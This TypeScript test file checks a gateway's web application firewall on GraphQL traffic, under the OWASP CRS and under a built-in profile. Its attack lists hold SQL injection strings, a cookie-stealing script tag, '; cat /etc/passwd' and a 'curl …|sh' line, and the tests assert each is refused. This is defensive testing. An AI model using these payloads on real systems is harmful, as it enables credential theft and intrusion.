/**
 * GraphQL through the WAF, end to end with the OWASP CRS and with the built-in profile: a
 * document's syntax (`query Order($id: ID!) { … }`, which CRS reads as Unix commands and MongoDB
 * operators) is not read as it stands, its string values are; anything in a `query` field that
 * is not a GraphQL document is read as it is.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { request } from 'undici'
import { graphqlStrings } from '../../src/waf/graphql-document.js'
import { baseConfig, startTestGateway, type TestGateway } from '../helpers/gateway.js'
import { CRS_DIR, skipWithoutCrsRules } from '../helpers/third-party.js'
import { startUpstream, type TestUpstream } from '../helpers/upstream.js'

const ORDER = 'query Order($id: ID!) {\n  order(id: $id) {\n    name\n    createdAt\n    lineItems(first: 10) { nodes { title quantity } }\n    __typename\n  }\n}'
const ISSUES =
  'query RepositoryIssues($owner: String!, $name: String!, $first: Int = 20, $after: String) {\n  repository(owner: $owner, name: $name) {\n    id\n    description\n    issues(first: $first, after: $after, states: [OPEN]) { nodes { number title } }\n  }\n}'
const PRODUCTS = 'query Products($first:Int!,$query:String){products(first:$first,query:$query,sortKey:UPDATED_AT,reverse:true){edges{cursor node{id title handle status}}}}'
const BENIGN = [
  { operationName: 'Order', variables: { id: 'gid://shopify/Order/8386987950986' }, query: ORDER },
  { operationName: 'RepositoryIssues', variables: { owner: 'octo', name: 'hello-world', first: 20 }, query: ISSUES },
  { operationName: 'Products', variables: { first: 25, query: 'tag:sale -tag:clearance' }, query: PRODUCTS },
  [{ query: ORDER, variables: { id: '1' } }, { query: '{ shop { name } }' }],
]
const ATTACKS = [
  // In a string literal of the document.
  { query: `query { user(name: "x' UNION SELECT password FROM users--") { id } }` },
  { query: 'mutation { comment(body: "<script>alert(document.cookie)</script>") { id } }' },
  // In the variables, which are JSON.
  { query: ORDER, variables: { id: "1' OR '1'='1" } },
  // Not a GraphQL document: read as it is.
  { query: "1' UNION SELECT username, password FROM users--" },
  { query: '; cat /etc/passwd' },
  { query: 'query { a } ; cat /etc/passwd' },
]

async function post(gw: TestGateway, path: string, body: unknown): Promise<number> {
  const response = await request(`${gw.url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
  await response.body.dump()
  return response.statusCode
}

async function get(gw: TestGateway, path: string, query: string): Promise<number> {
  const response = await request(`${gw.url}${path}?query=${encodeURIComponent(query)}`)
  await response.body.dump()
  return response.statusCode
}

test('graphqlStrings reads documents and only documents', () => {
  assert.deepEqual(graphqlStrings('query { a(x: "b\\"c", y: """d""") } # note'), ['b"c', 'd', ' note'])
  assert.deepEqual(graphqlStrings('{ shop { name } }'), [])
  assert.equal(graphqlStrings("1' OR '1'='1"), null)
  assert.equal(graphqlStrings('select * from users'), null)
  assert.equal(graphqlStrings('query { a '), null)
  assert.equal(graphqlStrings('query { a ) }'), null)
  assert.equal(graphqlStrings('query { a(x: 1abc) }'), null)
  // GraphQL's punctuation and bare names spell shell and SQL too: the shape of a document decides.
  assert.equal(graphqlStrings('{a 1} UNION SELECT password FROM users'), null)
  assert.equal(graphqlStrings('query { a } $(id)'), null)
  assert.equal(graphqlStrings('query{a} & curl 3232235777|sh'), null)
  assert.equal(graphqlStrings('query { a } users'), null)
  assert.deepEqual(graphqlStrings('query Q($id: ID! = "1") @live { a: b(id: $id) { ...F } } fragment F on T { c }'), ['1'])
  assert.equal(graphqlStrings(`{ a(x: [${'"s", '.repeat(300)}]) }`), null, 'more strings than a document carries: read as it stands')
})

for (const [name, waf, skip] of [
  ['the OWASP CRS', { ruleSet: CRS_DIR }, skipWithoutCrsRules],
  ['the built-in profile', {}, false],
] as const) {
  describe(`GraphQL with ${name}`, { skip }, () => {
    let upstream: TestUpstream
    let gw: TestGateway

    before(async () => {
      upstream = await startUpstream()
      const config = baseConfig(upstream.url)
      config.apis = [{ name: 'graph', basePath: '/', upstream: { url: upstream.url }, policies: { waf } }]
      gw = await startTestGateway(config)
    })
    after(async () => {
      await gw?.stop()
      await upstream?.close()
    })

    test('queries, mutations and batches with variables pass, in a body and in the query string', async () => {
      for (const body of BENIGN) assert.equal(await post(gw, '/graphql', body), 200, JSON.stringify(body).slice(0, 80))
      assert.equal(await get(gw, '/graphql', ORDER), 200)
    })

    test('an attack in a string of the document, in the variables or in a query that is no document is refused', async () => {
      for (const body of ATTACKS) assert.equal(await post(gw, '/graphql', body), 403, JSON.stringify(body))
      assert.equal(await get(gw, '/graphql', `query { user(name: "x' UNION SELECT password FROM users--") { id } }`), 403)
      // A repeated name is read as it stands, whichever one the server takes.
      const response = await request(`${gw.url}/graphql?query=${encodeURIComponent(ORDER)}&query=${encodeURIComponent("1' UNION SELECT password FROM users--")}`)
      await response.body.dump()
      assert.equal(response.statusCode, 403)
    })
  })
}
